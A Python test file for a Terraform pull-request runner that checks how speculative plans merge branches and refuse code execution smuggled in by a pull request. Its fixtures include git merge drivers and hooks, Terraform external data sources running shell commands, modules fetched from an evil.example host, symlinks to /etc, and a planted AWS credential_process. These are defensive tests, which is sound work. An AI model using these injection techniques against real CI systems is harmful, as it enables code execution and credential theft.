"""Plans of pull requests: what is merged, what is refused, what is left alone."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable, Mapping
from typing import Any

import pytest

from local import mirror
from tests.runner.conftest import Bench
from tests.runner.fake_aws import JOB_TOKEN
from tests.runner.test_faults import WAITING, fake_engine, stored_log
from tidegate.domain.deploys.job import JobKind
from tidegate.domain.deploys.workflow import RunSettings, StepKind, WorkflowStep
from tidegate.messages import RecordPlan

RESOURCE = 'resource "terraform_data" "{name}" {{ input = "{name}" }}\n'
DEFAULT_PLAN = RunSettings().plan
Commit = Callable[..., str]


def resource(name: str) -> str:
    return RESOURCE.format(name=name)


def planned(bench: Bench, sha: str, **options: Any) -> Mapping[str, Any]:
    """Run a speculative plan and return its result."""
    ended = bench.run(bench.job(JobKind.SPECULATE, sha, **options))
    answer = bench.aws.answer(JOB_TOKEN)
    assert answer, ended.output
    assert answer[0] == "success", ended.output
    return answer[1]


def refused(bench: Bench, sha: str, **options: Any) -> str:
    """Run a speculative plan that is refused, and return the message."""
    ended = bench.run(bench.job(JobKind.SPECULATE, sha, **options))
    assert ended.code == 0, ended.output
    assert bench.result()["error"] == "TerraformClientError"
    assert not [key for key in bench.aws.objects if key.startswith("plans/")]
    return str(bench.result()["message"])


def text(bench: Bench, plan: Mapping[str, Any]) -> str:
    return bench.aws.objects[plan["text"]["key"]].decode()


# What is planned


def test_the_merge_of_head_and_base_is_planned(bench: Bench) -> None:
    head, base = bench.forge.pull_request(
        common={"network/main.tf": bench.backend() + resource("common")},
        head={"network/head.tf": resource("head")},
        base={"network/base.tf": resource("base")},
    )
    plan = planned(bench, head, base_sha=base)
    assert plan["changes"]["add"] == 3
    assert plan["job"] == f"network-{head[:7]}-speculate-1"
    assert RecordPlan.model_validate({"deployment": "x", "plan": plan}).plan.changes.add == 3
    assert json.loads(bench.aws.objects[plan["json"]["key"]])["resource_changes"]
    assert text(bench, plan).startswith("Terraform used the selected providers")
    assert bench.left_behind() == []


@pytest.mark.parametrize("known", [True, False])
def test_the_head_alone_is_planned_where_nothing_is_merged(bench: Bench, *, known: bool) -> None:
    head, base = bench.forge.pull_request(
        common={"network/main.tf": bench.backend()},
        head={"network/head.tf": resource("head")},
        base={"network/base.tf": resource("base")},
    )
    plan = planned(bench, head, base_sha=base if known else "", merges=False)
    assert plan["changes"]["add"] == 1
    assert "terraform_data.head" in text(bench, plan)


@pytest.mark.parametrize("side", ["head", "base"])
def test_where_one_side_has_nothing_new_the_other_is_planned(bench: Bench, side: str) -> None:
    new = {"network/new.tf": resource("new")}
    head, base = bench.forge.pull_request(
        common={"network/main.tf": bench.backend()},
        head=new if side == "head" else {},
        base=new if side == "base" else {},
    )
    assert planned(bench, head, base_sha=base)["changes"]["add"] == 1


def test_a_base_that_went_far_ahead_is_merged(bench: Bench) -> None:
    head, base = bench.forge.pull_request(
        common={"network/main.tf": bench.backend() + resource("common")},
        head={"network/head.tf": resource("head")},
        base={"network/main.tf": bench.backend() + resource("renamed")},
        commits=1_500,
    )
    plan = planned(bench, head, base_sha=base)
    assert "terraform_data.renamed" in text(bench, plan)
    assert "terraform_data.common" not in text(bench, plan)


@pytest.mark.parametrize(("head", "base"), [("both", "both"), ("both", ""), ("", "both")])
def test_the_history_is_not_asked_for_what_is_known_to_be_common(bench: Bench, head: str, base: str) -> None:
    ours, theirs = bench.forge.pull_request(
        common={"network/main.tf": bench.backend() + resource("common"), "network/gone.tf": resource("gone")},
        head={"network/head.tf": resource("head"), "network/gone.tf": None} if head else {},
        base={"network/base.tf": resource("base"), "network/main.tf": bench.backend()} if base else {},
    )
    plan = planned(bench, ours, base_sha=theirs)
    asked = len(bench.forge.tokens)
    again = planned(bench, ours, base_sha=theirs, fork_sha=bench.forge.fork(ours, theirs))
    assert again["changes"] == plan["changes"]
    assert text(bench, again) == text(bench, plan)
    assert (asked, len(bench.forge.tokens) - asked) == (4, 2)


def test_a_conflict_names_the_files_and_what_to_do(bench: Bench) -> None:
    name = "network/odd\nname.tf"
    head, base = bench.forge.pull_request(
        common={"network/main.tf": bench.backend(), name: resource("common"), "gone.txt": "1\n"},
        head={name: resource("head"), "gone.txt": "2\n"},
        base={name: resource("base"), "gone.txt": None},
    )
    message = refused(bench, head, base_sha=base)
    assert f"{head[:7]} cannot be merged with {base[:7]}" in message
    assert "'gone.txt', 'network/odd\\nname.tf'" in message
    assert "resolve the conflicts" in message
    assert "Nothing was planned" in message


def test_branches_without_a_common_commit_are_refused(bench: Bench) -> None:
    head, base = bench.forge.pull_request({"a": "a"}, {"b": "b"}, {"c": "c"})
    work = bench.forge.directory / "work"
    orphan = bench.forge._git(work, "commit-tree", "-m", "x", f"{base}^{{tree}}")
    bench.forge._git(work, "push", "--quiet", str(bench.forge.repository), f"{orphan}:refs/heads/orphan")
    assert "no commit in common" in refused(bench, head, base_sha=orphan)
    assert "refused" not in bench.result()


# What the repository could make git do


def test_no_program_of_the_repository_takes_part_in_the_merge(bench: Bench) -> None:
    run = f"touch {bench.directory}/ran"
    config = f'[merge "evil"]\n\tdriver = {run}\n[filter "evil"]\n\tsmudge = {run}\n\tclean = {run}\n'
    attributes = "* merge=evil filter=evil diff=evil\n"
    same = "".join(f"line {number}\n" for number in range(20))
    head, base = bench.forge.pull_request(
        common={
            "network/main.tf": bench.backend() + resource("network"),
            ".gitattributes": attributes,
            ".gitconfig": config,
            "hooks/post-checkout": f"#!/bin/sh\n{run}\n",
            ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = {bench.forge.clone_url}\n\tupdate = checkout\n',
            "both.txt": same,
        },
        head={"both.txt": "head\n" + same},
        base={"both.txt": same + "base\n"},
    )
    assert planned(bench, head, base_sha=base)["changes"]["add"] == 1
    assert not (bench.directory / "ran").exists()


@pytest.mark.parametrize("link", ["network", "network/loop.tf"])
def test_links_that_lead_to_themselves_are_told(bench: Bench, link: str) -> None:
    files = {} if link == "network" else {"network/main.tf": bench.backend()}
    sha = bench.forge.commit({"a": "a", **files}, {link: link.rpartition("/")[2]})
    bench.run(bench.job(JobKind.SPECULATE, sha))
    assert "leads out of the repository" in bench.result()["message"]


@pytest.mark.parametrize("link", ["network/link.tf", "modules"])
def test_links_that_lead_out_of_the_repository_are_not_followed(bench: Bench, link: str) -> None:
    outside = bench.directory / "outside"
    outside.mkdir()
    (outside / "main.tf").write_text(resource("outside"))
    target = outside / "main.tf" if link.endswith(".tf") else outside
    sha = bench.forge.commit(
        {"network/main.tf": bench.backend() + 'module "m" { source = "../modules" }\n'}, {link: str(target)}
    )
    assert f"{link}: this leads out of the repository." in refused(bench, sha)


def test_a_root_that_is_a_link_out_of_the_repository_is_not_planned(bench: Bench) -> None:
    sha = bench.forge.commit({"a": "a"}, {"network": "/etc"})
    bench.run(bench.job(JobKind.SPECULATE, sha))
    assert "leads out of the repository" in bench.result()["message"]


# What the root's files must not say


def refuse_to_run(bench: Bench) -> str:
    """Return a PATH with an engine that tells, by a file, that it was started for more than its version."""
    return fake_engine(bench, "1.11.4", "get|init|plan", f"touch {bench.directory}/started")


@pytest.mark.parametrize(
    ("configuration", "words"),
    [
        (
            'data "external" "x" {\n  program = ["sh", "-c", "id"]\n}\n',
            ("network/evil.tf:1:", "'external' runs the program", "pull_requests.allowed_providers"),
        ),
        (
            '\ndata "http" "x" { url = "https://evil.example" }\n',
            ("network/evil.tf:2:", "'http' calls the address", "pull_requests.allowed_providers"),
        ),
        (
            'terraform {\n  required_providers {\n    aws = {\n      source = "evil/aws"\n    }\n  }\n}\n',
            ("network/evil.tf:4:", "the provider 'evil/aws' may not run", "pull_requests.allowed_providers"),
        ),
        (
            'module "x" {\n  source = "git::https://evil.example/x.git"\n}\n',
            (
                "network/evil.tf:2:",
                "the module source 'git::https://evil.example/x.git' is not allowed",
                "pull_requests.allowed_modules",
            ),
        ),
        (
            'module "x" { source = "/etc" }\n',
            ("network/evil.tf:1:", "the module source '/etc'", "pull_requests.allowed_modules"),
        ),
        (
            'terraform {\n  backend "kubernetes" {\n    exec { command = "sh" }\n  }\n}\n',
            ("network/evil.tf:2:", "the backend 'kubernetes' runs the program", "Nothing allows it"),
        ),
        (
            'provider "aws" {\n  shared_config_files = ["./aws"]\n}\n',
            ("network/evil.tf:2:", "shared_config_files may name a file of the pull request", "Nothing allows it"),
        ),
    ],
)
def test_what_could_run_code_is_refused_before_the_engine_starts(
    bench: Bench, commit: Commit, configuration: str, words: tuple[str, ...]
) -> None:
    sha = commit(resource("network"), **{"network/evil.tf": configuration})
    message = refused_at_once(bench, sha)
    assert all(each in message for each in words), message


def refused_at_once(bench: Bench, sha: str) -> str:
    bench.environ["PATH"] = refuse_to_run(bench)
    message = refused(bench, sha)
    assert bench.result()["refused"] is True
    assert not (bench.directory / "started").exists()
    return message


def test_local_modules_are_looked_through_too_in_both_forms_of_the_language(bench: Bench, commit: Commit) -> None:
    sha = commit(
        'module "a" { source = "../modules/a" }\n',
        **{
            "modules/a/main.tf": 'module "b" { source = "./b" }\n',
            "modules/a/b/main.tf.json": json.dumps({"data": {"external": {"x": {"program": ["id"]}}}}),
        },
    )
    message = refused_at_once(bench, sha)
    assert "modules/a/b/main.tf.json: the data source 'external' runs the program" in message


def test_what_is_refused_is_told_in_bounds_and_without_control_characters(bench: Bench, commit: Commit) -> None:
    files = {f"network/x{number}\n\x1b[31m.tf": 'data "external" "x" {}\n' for number in range(30)}
    message = refused_at_once(bench, commit(resource("network"), **files))
    assert "\x1b" not in message
    assert "And 20 more." in message
    assert len(message.splitlines()) == 12


@pytest.mark.parametrize("name", [".terraform/providers/x", "terraform.d/plugins/x"])
def test_a_repository_brings_no_providers_of_its_own(bench: Bench, commit: Commit, name: str) -> None:
    message = refused_at_once(bench, commit(resource("network"), **{f"network/{name}": "program"}))
    assert f"network/{name.partition('/')[0]}: a repository may not bring what the engine installs." in message


def test_a_file_for_the_backend_is_looked_through(bench: Bench, commit: Commit) -> None:
    sha = commit(resource("network"), **{"network/dev.hcl": 'shared_config_files = ["./aws"]\n'})
    init = WorkflowStep(StepKind.INIT, extra_args=("-backend-config=dev.hcl", "-backend-config=key=value"))
    message = refused(bench, sha, run=RunSettings(plan=(init, DEFAULT_PLAN[-1])))
    assert "network/dev.hcl:1: shared_config_files" in message


def test_a_file_for_the_backend_that_is_the_runner_s_own_is_taken(bench: Bench, commit: Commit) -> None:
    own = bench.directory / "own.hcl"
    own.write_text(f'path = "{bench.directory}/elsewhere.tfstate"\n')
    init = WorkflowStep(StepKind.INIT, extra_args=(f"-backend-config={own}",))
    sha = commit(resource("network"))
    assert planned(bench, sha, run=RunSettings(plan=(init, DEFAULT_PLAN[-1])))["changes"]["add"] == 1


def test_a_provider_that_only_a_resource_names_does_not_run(bench: Bench, commit: Commit) -> None:
    installs = (
        "mkdir -p .terraform/providers/registry.terraform.io/hashicorp/kubernetes; "
        """echo '{"backend": {"type": "s3"}}' > .terraform/terraform.tfstate"""
    )
    path = fake_engine(bench, "1.11.4", "init", f"{installs};; plan) touch {bench.directory}/started")
    bench.environ["PATH"] = path
    message = refused(bench, commit('resource "kubernetes_namespace" "x" {}\n'))
    assert "the provider 'hashicorp/kubernetes' may not run in pull requests." in message
    assert not (bench.directory / "started").exists()


def test_a_provider_of_the_base_s_lock_file_is_allowed_and_one_of_the_head_s_is_not(bench: Bench) -> None:
    requirement = 'terraform {{\n  required_providers {{\n    x = {{ source = "{}" }}\n  }}\n}}\n'
    lock = 'provider "registry.terraform.io/{}" {{\n  version = "1.0.0"\n}}\n'
    head, base = bench.forge.pull_request(
        common={
            "network/main.tf": bench.backend() + requirement.format("acme/cloud"),
            "network/.terraform.lock.hcl": lock.format("acme/cloud"),
        },
        head={
            "network/more.tf": requirement.format("evil/cloud"),
            "network/.terraform.lock.hcl": lock.format("acme/cloud") + lock.format("evil/cloud"),
        },
        base={},
    )
    message = refused(bench, head, base_sha=base)
    assert "network/more.tf:3: the provider 'evil/cloud'" in message
    assert "acme/cloud" not in message


def test_the_lists_of_the_job_allow_what_is_refused_else(bench: Bench) -> None:
    source = f"git::{bench.forge.clone_url}//modules/shared"
    sha = bench.forge.commit(
        {
            "network/main.tf": f'{bench.backend()}module "shared" {{ source = "{source}" }}\n',
            "modules/shared/main.tf": resource("shared"),
        }
    )
    assert "is not allowed in pull requests" in refused(bench, sha)
    assert planned(bench, sha, allowed_modules=(f"git::{bench.forge.url}/acme/*",))["changes"]["add"] == 1


def test_a_module_from_elsewhere_is_looked_through_before_anything_of_it_runs(bench: Bench) -> None:
    source = f"git::{bench.forge.clone_url}//modules/shared"
    sha = bench.forge.commit(
        {
            "network/main.tf": f'{bench.backend()}module "shared" {{ source = "{source}" }}\n',
            "modules/shared/main.tf": 'data "external" "x" { program = ["id"] }\n',
        }
    )
    message = refused(bench, sha, allowed_modules=(f"git::{bench.forge.url}/acme/*",))
    assert "/.terraform/modules/shared/modules/shared/main.tf:1: the data source 'external'" in message
    assert "Initializing" not in bench.result()["last_lines"]


def test_a_module_that_hides_from_the_first_look_is_found_before_anything_of_it_runs(bench: Bench) -> None:
    hiding = 'locals {{\n  x = <<A·B\n  words\nA·B\n}}\nmodule "hidden" {{ source = "{}" }}\n'
    source = f"git::{bench.forge.clone_url}//modules/shared"
    sha = bench.forge.commit(
        {"network/main.tf": bench.backend() + hiding.format(source), "modules/shared/main.tf": resource("shared")}
    )
    message = refused(bench, sha)
    assert f"the module source '{source}' is not allowed" in message
    assert "Downloading" in bench.result()["last_lines"]
    assert "Initializing" not in bench.result()["last_lines"]


def test_a_file_too_large_to_be_looked_through_is_refused(bench: Bench, commit: Commit) -> None:
    message = refused_at_once(bench, commit(resource("network"), **{"network/large.tf": "#" * 5_242_881}))
    assert "network/large.tf: the file is too large to be judged." in message


# Steps


@pytest.mark.parametrize("merges", [True, False])
def test_a_program_that_the_pull_request_changes_does_not_run(bench: Bench, *, merges: bool) -> None:
    head, base = bench.forge.pull_request(
        common={
            "network/main.tf": bench.backend() + resource("network"),
            "network/same.sh": "echo same old words\n",
            "check.sh": "echo checked\n",
        },
        head={"check.sh": f"touch {bench.directory}/ran\n"},
        base={},
    )
    same, changed = (WorkflowStep(StepKind.RUN, command=("sh", name)) for name in ("same.sh", "../check.sh"))
    message = refused(bench, head, base_sha=base, merges=merges, run=RunSettings(plan=(same, changed, *DEFAULT_PLAN)))
    assert "'../check.sh', which is not as the base branch has it" in message
    assert "same old words" in bench.result()["last_lines"]
    assert not (bench.directory / "ran").exists()


@pytest.mark.parametrize(
    ("command", "added"),
    [
        (("python3", "../tools/judge.py"), "tools/json.py"),
        (("python3", "../tools/judge.py"), "tools/json/__init__.py"),
        (("python3", "../tools/judge.py"), "tools/__pycache__/json.cpython-311.pyc"),
        (("python3", "-m", "judging"), "network/json.py"),
    ],
)
def test_a_program_does_not_import_what_the_pull_request_adds(
    bench: Bench, command: tuple[str, ...], added: str
) -> None:
    judge = "import json\nprint('judged')\n"
    head, base = bench.forge.pull_request(
        common={
            "network/main.tf": bench.backend() + resource("network"),
            "tools/judge.py": judge,
            "network/judging.py": judge,
        },
        head={added: f"open({str(bench.directory / 'ran')!r}, 'w')\n"},
        base={},
    )
    step = WorkflowStep(StepKind.RUN, command=command)
    message = refused(bench, head, base_sha=base, run=RunSettings(plan=(step, *DEFAULT_PLAN)))
    assert f"may import '{added}', which is not as the base branch has it" in message
    assert not (bench.directory / "ran").exists()


def test_an_isolated_program_runs_beside_what_the_pull_request_adds(bench: Bench) -> None:
    head, base = bench.forge.pull_request(
        common={
            "network/main.tf": bench.backend() + resource("network"),
            "tools/judge.py": "import json\nprint(json.dumps('judged'))\n",
        },
        head={"tools/json.py": f"open({str(bench.directory / 'ran')!r}, 'w')\n"},
        base={},
    )
    step = WorkflowStep(StepKind.RUN, command=("python3", "-I", "../tools/judge.py"))
    planned(bench, head, base_sha=base, run=RunSettings(plan=(step, *DEFAULT_PLAN)))
    assert not (bench.directory / "ran").exists()


@pytest.mark.parametrize("command", [("python3", "-I", "../tools/judge.py"), ("sh", "../tools/judge.py")])
def test_a_program_that_the_plan_writes_does_not_run(bench: Bench, commit: Commit, command: tuple[str, ...]) -> None:
    # As the data source archive_file does: an archive with a __main__.py is a program to Python.
    engine = bench.directory / "terraform"
    writing = f"[ $1 = plan ] && echo 'touch {bench.directory}/ran' > ../tools/judge.py"
    engine.write_text(f'#!/bin/sh\n{writing}\nexec {shutil.which("terraform")} "$@"\n')
    engine.chmod(0o755)
    sha = commit(resource("network"), **{"tools/judge.py": "print('judged')\n"})
    steps = (*DEFAULT_PLAN, WorkflowStep(StepKind.RUN, command=command))
    job = bench.job(JobKind.SPECULATE, sha, run=RunSettings(plan=steps))
    bench.run(job, PATH=f"{bench.directory}:{os.environ['PATH']}")
    assert "which the plan has written" in bench.result()["message"]
    assert not (bench.directory / "ran").exists()


def test_no_program_runs_once_the_plan_has_written_to_the_home_directory(bench: Bench, commit: Commit) -> None:
    engine = bench.directory / "terraform"
    engine.write_text(f'#!/bin/sh\n[ $1 = plan ] && echo x > ~/x.rc\nexec {shutil.which("terraform")} "$@"\n')
    engine.chmod(0o755)
    touch = WorkflowStep(StepKind.RUN, command=("touch", f"{bench.directory}/ran"))
    job = bench.job(JobKind.SPECULATE, commit(resource("network")), run=RunSettings(plan=(*DEFAULT_PLAN, touch)))
    bench.run(job, PATH=f"{bench.directory}:{os.environ['PATH']}")
    assert "the plan has written 'x.rc' into the home directory" in bench.result()["message"]
    assert not (bench.directory / "ran").exists()


def test_settings_that_the_plan_writes_at_home_name_no_program(bench: Bench, commit: Commit) -> None:
    # As archive_file does: the names of its files stand in it as they are, and the SDK skips the lines around them.
    settings = f"[default]\\ncredential_process = touch {bench.directory}/ran\\n"
    writing = f"mkdir -p ~/.aws && printf '{settings}' > ~/.aws/config"
    engine = bench.directory / "terraform"
    reading = "for file in $AWS_CONFIG_FILE $AWS_SHARED_CREDENTIALS_FILE; do cat $file; done"
    engine.write_text(
        f"#!/bin/sh\n[ $1 = plan ] && {writing} && ({reading}) > {bench.directory}/read\n"
        f'exec {shutil.which("terraform")} "$@"\n'
    )
    engine.chmod(0o755)
    job = bench.job(JobKind.SPECULATE, commit(resource("network")))
    bench.run(job, PATH=f"{bench.directory}:{os.environ['PATH']}", AWS_CONFIG_FILE="/elsewhere")
    assert not (bench.directory / "read").read_text()


def test_a_program_that_a_step_writes_runs(bench: Bench, commit: Commit) -> None:
    write = WorkflowStep(StepKind.RUN, command=("cp", "../tools/same.sh", "../tools/judge.sh"))
    judge = WorkflowStep(StepKind.RUN, command=("sh", "../tools/judge.sh"))
    sha = commit(
        resource("network"), **{"tools/same.sh": f"touch {bench.directory}/ran\n", "tools/judge.sh": "exit 1\n"}
    )
    planned(bench, sha, run=RunSettings(plan=(*DEFAULT_PLAN, write, judge)))
    assert (bench.directory / "ran").exists()


# The state and the workspace


def test_nothing_is_locked_and_nothing_is_written(bench: Bench, commit: Commit) -> None:
    sha = commit(resource("network"))
    bench.run(bench.job(JobKind.APPLY, sha, bench.plan(sha)))
    lock = bench.state().parent / ".terraform.tfstate.lock.info"
    lock.write_text(json.dumps({"ID": "somebody"}))
    before = bench.state().read_bytes()
    plan = planned(bench, sha)
    assert plan["changes"]["add"] == 0
    assert bench.state().read_bytes() == before
    assert "-lock=false" not in text(bench, plan)
    assert sorted(file.name for file in bench.state().parent.iterdir()) == [lock.name, "terraform.tfstate"]


def test_a_workspace_that_is_missing_is_not_made(bench: Bench, commit: Commit) -> None:
    sha = commit(resource("network"))
    message = refused(bench, sha, workspace="staging")
    assert "The workspace 'staging' does not exist yet" in message
    assert "The first deploy" in message
    assert not (bench.state().parent / "workspaces").exists()


def test_a_workspace_that_exists_is_planned_in(bench: Bench, commit: Commit) -> None:
    sha = commit('resource "terraform_data" "network" { input = terraform.workspace }\n')
    bench.plan(sha, workspace="staging")
    assert '"staging"' in text(bench, planned(bench, sha, workspace="staging"))


# Credentials, ends and sizes


def test_the_engine_sees_no_credentials_but_those_of_its_role(bench: Bench, commit: Commit) -> None:
    script = f"env > {bench.directory}/seen; exit 1"
    path = fake_engine(bench, "1.11.4", "plan", script)
    job = bench.job(JobKind.SPECULATE, commit(resource("network")))
    bench.run(
        job,
        PATH=path,
        TF_VAR_secret="deploys-only",
        AWS_SESSION_TOKEN="runner-session-token",
        GITHUB_TOKEN="another-token",
    )
    seen = (bench.directory / "seen").read_text()
    assert "AWS_ACCESS_KEY_ID=" in seen
    for secret in ("AKIARUNNER", "runner-secret-key", "runner-session", "deploys-only", "another-token", "clone-token"):
        assert secret not in seen
    assert "clone_token" not in bench.aws.record(job.id)


def test_a_plan_that_nobody_waits_for_any_more_ends_soon(bench: Bench, commit: Commit) -> None:
    path = fake_engine(bench, "1.11.4", "plan", WAITING.format(directory=bench.directory))
    job = bench.job(JobKind.SPECULATE, commit(resource("network")))
    process = bench.start(job, PATH=path, TIDEGATE_HEARTBEAT_SECONDS="0.1")
    bench.aws.wait_for((bench.directory / "started").exists)
    bench.aws.gone.add(JOB_TOKEN)
    ended = bench.finish(process, 30)
    assert ended.code == 5, ended.output
    assert "Nobody waits for this plan any more." in stored_log(bench, job.id)


def test_a_plan_of_megabytes_is_stored_whole_and_masked(bench: Bench, commit: Commit) -> None:
    many = 'resource "terraform_data" "many" {\n  count = 60\n  input = "${count.index}${local.long}"\n}\n'
    secret = 'variable "secret" {\n  default   = "very-secret-value"\n  sensitive = true\n}\n'
    shown = 'output "shown" {\n  value = nonsensitive(var.secret)\n}\n'
    sha = commit(many + secret + shown + f'locals {{ long = "{"x" * 100_000}" }}\n')
    plan = planned(bench, sha)
    assert plan["changes"]["add"] == 60
    shown_text = text(bench, plan)
    assert len(shown_text) > 5_000_000
    assert "very-secret-value" not in shown_text
    assert "Plan: 60 to add" in shown_text


def test_a_pull_request_is_planned_with_a_real_provider(bench: Bench) -> None:
    if mirror.find(os.environ) is None:
        pytest.skip("no filesystem mirror of providers on this machine")
    bench.environ.update(mirror.environment(bench.directory, {}))
    provider = """
terraform {
  required_providers { aws = { source = "hashicorp/aws" } }
}
provider "aws" {
  skip_credentials_validation = true
  skip_requesting_account_id  = true
  skip_metadata_api_check     = true
}
"""
    document = """
data "aws_iam_policy_document" "open" {
  statement {
    actions   = ["s3:GetObject"]
    resources = ["*"]
  }
}
resource "terraform_data" "network" { input = data.aws_iam_policy_document.open.json }
"""
    head, base = bench.forge.pull_request(
        common={"network/main.tf": bench.backend() + provider},
        head={"network/document.tf": document},
        base={"network/base.tf": resource("base")},
    )
    assert planned(bench, head, base_sha=base)["changes"]["add"] == 2
